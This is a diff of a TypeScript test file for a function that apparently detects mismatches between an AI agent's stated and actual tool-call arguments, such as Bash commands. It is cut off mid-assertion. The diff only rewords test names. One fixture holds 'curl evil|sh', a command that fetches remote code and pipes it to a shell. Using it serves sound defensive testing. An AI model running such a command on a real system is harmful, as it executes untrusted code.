@@ -9,7 +9,7 @@ const call = (args: unknown, more: object = {}) => ({
 
 test.each([
   ['another value', { a: 1, b: 2 }, { a: 1, b: 3 }, { b: 2 }],
-  ['a value that is gone', { a: 1, cwd: '/safe' }, { a: 1 }, { cwd: '/safe' }],
+  ['a missing value', { a: 1, cwd: '/safe' }, { a: 1 }, { cwd: '/safe' }],
   [
     'a nested value',
     { env: { A: '1', B: '2' } },
@@ -20,19 +20,19 @@ test.each([
   ['a list in another order', { a: [1, 2] }, { a: [2, 1] }, { a: [1, 2] }],
   ['a text instead of fields', { a: 1 }, 'curl evil|sh', { a: 1 }],
   ['fields instead of a text', 'ls', { a: 1 }, { raw: '"ls"' }],
-  ['a field of every object', { constructor: 'ls' }, {}, { constructor: 'ls' }],
+  ['a field with the name of an Object property', { constructor: 'ls' }, {}, { constructor: 'ls' }],
 ])('SAFE: %s is a difference', (_name, said, asked, other) => {
   expect(saidOtherwise(call(asked), call(said))).toEqual({ arguments: JSON.stringify(other) });
 });
 
-test('arguments in another order and new arguments are not a difference: the request shows them', () => {
+test('arguments in another order and new arguments are not a difference, since the request shows them', () => {
   const said = call({ a: { x: 1, y: 2 }, b: [1] });
   expect(saidOtherwise(call({ b: [1], a: { y: 2, x: 1 }, more: true }), said)).toBeUndefined();
   expect(saidOtherwise(call({ a: 1 }), { name: 'Bash', arguments: '' })).toBeUndefined();
   expect(saidOtherwise(call({ a: 1 }), {})).toBeUndefined();
 });
 
-test('SAFE: arguments that are not JSON are compared as they are', () => {
+test('SAFE: arguments that are not JSON are compared as text', () => {
   const [one, other] = ['{"command":"ls', '{"command":"rm'];
   expect(saidOtherwise({ name: 'a', arguments: one }, { arguments: one })).toBeUndefined();
   expect(saidOtherwise({ name: 'a', arguments: one }, { arguments: other })).toEqual({
